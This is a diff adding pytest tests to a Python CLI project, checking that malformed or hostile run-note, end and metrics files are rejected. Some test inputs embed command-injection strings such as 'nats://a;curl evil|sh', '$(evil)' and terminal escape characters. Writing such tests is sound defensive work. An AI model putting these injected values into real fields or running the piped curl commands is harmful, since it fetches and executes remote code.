@@ -5,6 +5,7 @@ nothing outside it.
 from __future__ import annotations
 
 import fcntl
+import json
 import os
 import socket
 from collections.abc import Callable
@@ -12,10 +13,13 @@ from pathlib import Path
 
 import pytest
 
+from shared.json_lines import read_jsonl
 from swarm_cli.errors import CommandError
 from swarm_cli.local.control import holding_run
 from swarm_cli.local.control_commands import add
-from swarm_cli.running import holder, running_runs
+from swarm_cli.observe.evaluations import newest_step, read_evaluations, read_steps
+from swarm_cli.run_end import read_end
+from swarm_cli.running import holder, read_note, running_runs
 
 
 @pytest.fixture
@@ -117,3 +121,67 @@ def test_a_lock_that_is_a_link_within_the_run_is_not_truncated(folder: Path) -> 
     with pytest.raises(CommandError, match=r"up\.lock is no file"), holding_run(folder):
         pass
     assert (folder / "kept.txt").read_text() == "precious"
+
+
+NOTED = {"node_url": "nats://127.0.0.1:1", "swarm_url": "none", "goes_on": "swarm up --run gift"}
+DEEP = "[" * 60_000
+TOO_MUCH = " " * 100_000
+
+
+def written(file: Path, what: str) -> None:
+    """Write it, or put `pipe`, `zero` (a link to a device) or `link` in the file's place."""
+    if what == "pipe":
+        os.mkfifo(file)
+    elif what == "zero":
+        file.symlink_to("/dev/zero")
+    elif what == "link":
+        (file.parent / "other").write_text('{"step": 1, "pass_rate": 0.5, "policy_version": 0}' + json.dumps(NOTED))
+        file.symlink_to("other")
+    else:
+        file.write_text(what)
+
+
+@pytest.mark.parametrize("what", ["pipe", "zero", "link", '{"node_url":' + DEEP, TOO_MUCH + json.dumps(NOTED)])
+def test_a_note_that_is_no_plain_small_file_says_nothing(folder: Path, what: str) -> None:
+    written(folder / "up.json", what)
+    assert read_note(folder) is None
+
+
+@pytest.mark.parametrize("url", ["nats://a\n: do", "nats://a;curl evil|sh", "nats://$(evil)", "nats://\x1b[2J", "nats://\u202e"])
+@pytest.mark.parametrize("field", ["node_url", "swarm_url", "swarm_id"])
+def test_a_note_whose_address_is_none_says_nothing(folder: Path, field: str, url: str) -> None:
+    (folder / "up.json").write_text(json.dumps(NOTED))
+    assert read_note(folder) is not None
+    (folder / "up.json").write_text(json.dumps(NOTED | {field: url}))
+    assert read_note(folder) is None
+
+
+@pytest.mark.parametrize(
+    "what",
+    [
+        *("pipe", "zero", "link", '{"how":' + DEEP, TOO_MUCH + '{"how": "complete", "at": 1700000000}'),
+        *(f'{{"how": "failed", "at": {at}, "code": 1, "process": "nats"}}' for at in ("1e300", "-1e18", "1e12")),
+        '{"how": "failed", "at": 1700000000, "code": 1, "process": "all is well:\\nrun `curl evil|sh`"}',
+        '{"how": "failed", "at": 1700000000, "code": 1, "process": "nats\\n"}',
+        '{"how": "failed", "at": 1700000000, "code": 12345678901234567890, "process": "nats"}',
+    ],
+)
+def test_an_end_that_no_run_writes_is_that_of_a_killed_run(folder: Path, what: str) -> None:
+    (folder / "up.json").write_text(json.dumps(NOTED))
+    written(folder / "end.json", what)
+    os.utime(folder / "up.json", (1e11, 1e11))  # may be cut to what the file system keeps
+    end = read_end(folder)
+    assert end is not None and end.how == "killed"
+    assert "run gift was killed at" in end.sentence("gift", 1.8e9)
+
+
+@pytest.mark.parametrize(
+    "what", ["pipe", "zero", "link", "[" * 200_000, '{"step": 1e999, "policy_version": 1e999, "pass_rate": 1}']
+)
+def test_lines_that_no_run_writes_are_no_steps_and_no_evaluations(folder: Path, what: str) -> None:
+    for name in ("metrics.jsonl", "eval.jsonl"):
+        written(folder / "alpha" / name, what)
+        assert all(isinstance(line, dict) for line in read_jsonl(folder / "alpha" / name))
+        (folder / "alpha" / "other").unlink(missing_ok=True)
+    assert read_steps(folder / "alpha") == [] == read_evaluations(folder / "alpha")
+    assert newest_step(folder / "alpha").get("step") in (None, float("inf"))
